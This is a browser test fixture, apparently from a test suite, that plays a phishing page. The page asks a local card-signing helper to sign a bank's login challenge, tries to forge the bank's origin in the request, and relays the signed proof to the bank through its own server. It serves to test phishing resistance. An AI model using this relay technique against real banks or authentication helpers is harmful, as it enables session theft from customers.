// TEST ONLY (t/web/browser.t): a phishing page on another origin. Its server
// (/cgi-bin/phish.cgi) fetches the bank's challenge with its own cookie;
// the page asks the customer's card helper (which trusts this origin too)
// to sign it, then its server posts the proof to the bank. Also tries to
// make the helper sign for the bank's origin by putting it in the JSON.
(async function () {
  const q = new URLSearchParams(location.search);
  const bank = q.get('bank');
  const helper = 'http://127.0.0.1:' + q.get('helper') + '/sign';
  const out = { page_origin: location.origin };
  const sign = (body) => fetch(helper, {
    method: 'POST', mode: 'cors', credentials: 'omit', cache: 'no-store',
    headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body),
  }).then(async (r) => ({ status: r.status, json: await r.json() }));
  try {
    const c = await (await fetch('/cgi-bin/phish.cgi?op=challenge&bank=' + encodeURIComponent(bank))).json();
    out.challenge_ok = typeof c.challenge === 'string';
    // (a) a page cannot choose the origin: an extra "origin" key is refused
    const forged = await sign({ challenge: c.challenge, origin: bank });
    out.forged_status = forged.status;
    out.forged_error = forged.json.error;
    // (b) the plain request: the helper signs for THIS page's origin
    const p = await sign({ challenge: c.challenge });
    out.helper_status = p.status;
    const b64 = p.json.client_data.replace(/-/g, '+').replace(/_/g, '/');
    out.client_data = atob(b64 + '='.repeat((4 - (b64.length % 4)) % 4));
    const res = await (await fetch('/cgi-bin/phish.cgi?op=login&bank=' + encodeURIComponent(bank) +
                                   '&jar=' + c.jar, {
      method: 'POST', headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ challenge: c.challenge, client_data: p.json.client_data,
                             certificate: p.json.certificate, signature: p.json.signature }),
    })).json();
    out.bank_status = res.status;
    out.bank_error = res.error;
    out.bank_session = res.session;
  } catch (e) {
    out.exception = String(e && e.stack || e);
  }
  document.getElementById('result').textContent = JSON.stringify(out);
  document.body.setAttribute('data-done', 'true');
})();
